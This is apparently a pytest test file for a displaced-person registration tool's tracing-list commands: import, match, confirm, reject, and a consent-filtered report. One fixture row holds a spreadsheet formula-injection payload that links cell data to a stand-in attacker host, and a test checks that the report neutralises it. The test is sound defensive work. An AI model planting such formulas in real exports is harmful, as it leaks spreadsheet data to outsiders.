"""`fieldreg list import|show|match|confirm|reject|report` as a coordinator's script runs them:
a CSV list with its columns confirmed, matched, reviewed and answered; only people who consented
to tracing are named in the report, the others go to the protection officer's internal file."""

from __future__ import annotations

import csv
import io
import json
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from tests.cli.test_cli import fieldreg, store  # noqa: F401 (store is a fixture)


def register(data_dir: Path, *args: str) -> str:
    done = fieldreg(data_dir, "register", *args, "--json")
    assert done.returncode == 0, done.stderr
    return str(json.loads(done.stdout)["id"])


def ok(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    done = fieldreg(data_dir, *args)
    assert done.returncode == 0, done.stderr
    return done


LIST = (
    "№,Фамилия,Имя,Год рождения\n"
    "S-1,Коваленко,Мария,1984\n"  # the Russian spelling of a woman registered in Ukrainian
    "S-2,Бондаренко,Игорь,1990\n"  # registered, but said no to tracing
    '"=HYPERLINK(""http://evil.example/?x=""&A1)",Невідомий,Петро,1950\n'
)


@pytest.fixture
def reviewed(store: Path, tmp_path: Path) -> tuple[Path, str, str, str]:  # noqa: F811
    """A store with a list imported, matched and both matches confirmed."""
    agrees = register(store, "--family", "Коваленко", "--given", "Марія", "--dob", "1984-03-02")
    refuses = register(store, "--family", "Бондаренко", "--given", "Ігор", "--dob", "1990-07-11")
    ok(store, "consent", agrees, "--consent-tracing", "yes")
    ok(store, "consent", refuses, "--consent-tracing", "no")
    ok(store, "status", agrees, "departed", "--transport", "Bus 7 to Przemyśl")
    path = tmp_path / "sought.csv"
    path.write_bytes(b"\xef\xbb\xbf" + LIST.encode("utf-8"))
    done = ok(store, "list", "import", str(path), "--accept-proposed", "--owner", "ICRC", "--json")
    list_id = json.loads(done.stdout)["list"]
    matches = json.loads(ok(store, "list", "match", list_id, "--json").stdout)
    by_reference = {m["reference"]: m for m in matches}
    assert by_reference["S-1"]["candidates"][0]["person"] == agrees
    assert by_reference["S-1"]["candidates"][0]["label"] == "likely"
    assert by_reference["S-2"]["candidates"][0]["person"] == refuses
    for match in matches[:2]:
        ok(store, "list", "confirm", list_id, str(match["entry"]), match["candidates"][0]["person"])
    return store, list_id, agrees, refuses


def test_without_a_confirmed_mapping_nothing_is_imported(
    store: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    path = tmp_path / "sought.csv"
    path.write_text(LIST, encoding="utf-8")
    done = fieldreg(store, "list", "import", str(path))
    assert done.returncode == 3
    assert "Proposed mapping: reference=№,family=Фамилия,given=Имя,dob=Год рождения" in done.stdout
    assert json.loads(ok(store, "list", "show", "--json").stdout) == []


def test_a_map_names_the_columns_and_a_wrong_column_is_refused(
    store: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    path = tmp_path / "sought.csv"
    path.write_text(LIST, encoding="utf-8")
    wrong = fieldreg(store, "list", "import", str(path), "--map", "family=Прізвище")
    assert wrong.returncode == 3
    assert "Прізвище" in wrong.stderr
    done = ok(store, "list", "import", str(path), "--map", "family=Фамилия,given=Имя", "--json")
    assert json.loads(done.stdout)["entries"] == 3
    [shown] = json.loads(ok(store, "list", "show", "--json").stdout)
    assert (shown["entries"], shown["confirmed"]) == (3, 0)
    # the text: the date received day first, like every date the command line writes
    received = shown["received"]  # ISO in JSON, for scripts
    year, month, day = received.split("-")
    assert f"received {day}.{month}.{year}" in ok(store, "list", "show").stdout


def test_the_report_names_only_people_who_consented(
    reviewed: tuple[Path, str, str, str], tmp_path: Path
) -> None:
    data_dir, list_id, agrees, refuses = reviewed
    pdf, table, internal = tmp_path / "r.pdf", tmp_path / "r.csv", tmp_path / "protection.csv"
    done = ok(
        data_dir, "list", "report", list_id, "--pdf", str(pdf), "--csv", str(table),
        "--protection-csv", str(internal), "--json",
    )  # fmt: skip
    assert "personal data" in done.stderr
    assert "INTERNAL" in done.stderr
    counts = json.loads(done.stdout)
    assert (counts["found"], counts["found_without_consent"], counts["not_found"]) == (1, 1, 1)
    for path in (pdf, table, internal):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    found = [r for r in rows if r[0] == "found"]
    assert [(r[3], r[4], r[7]) for r in found] == [(agrees, "Коваленко Марія", "Bus 7 to Przemyśl")]
    text = table.read_text(encoding="utf-8-sig")
    assert refuses not in text
    assert "Бондаренко" not in text
    assert "Игорь" not in text
    # The list's hostile reference comes back as text a spreadsheet shows, never runs.
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "poppler-utils is needed"
    extracted = subprocess.run(
        [pdftotext, str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    shown = " ".join(extracted.split())  # table cells wrap their words onto lines
    assert "Коваленко Марія" in shown
    assert "Bus 7 to Przemyśl" in shown
    assert shown.startswith("This report holds personal data.")
    assert "Бондаренко" not in shown
    assert refuses not in shown
    protection = internal.read_text(encoding="utf-8-sig")
    assert protection.startswith("INTERNAL")
    assert refuses in protection
    assert agrees not in protection


def test_a_rejected_candidate_is_not_offered_again_and_decisions_survive_rematching(
    reviewed: tuple[Path, str, str, str],
) -> None:
    data_dir, list_id, agrees, _ = reviewed
    ok(data_dir, "list", "reject", list_id, "1", agrees)
    register(data_dir, "--family", "Коваленко", "--given", "Марія", "--dob", "1984-03-05")
    matches = json.loads(ok(data_dir, "list", "match", list_id, "--json").stdout)
    first = next(m for m in matches if m["reference"] == "S-1")
    assert agrees not in [c["person"] for c in first["candidates"]]
    assert first["candidates"], "the new registration is offered"
    second = next(m for m in matches if m["reference"] == "S-2")
    assert second["confirmed"] is not None


def test_a_report_needs_a_target_and_an_unknown_list_is_not_found(
    store: Path,  # noqa: F811
) -> None:
    done = fieldreg(store, "list", "report", "LNOSUCHLIST")
    assert done.returncode == 3
    assert "where to write" in done.stderr
    missing = fieldreg(store, "list", "match", "LNOSUCHLIST")
    assert missing.returncode == 5
    assert "no such list" in missing.stderr
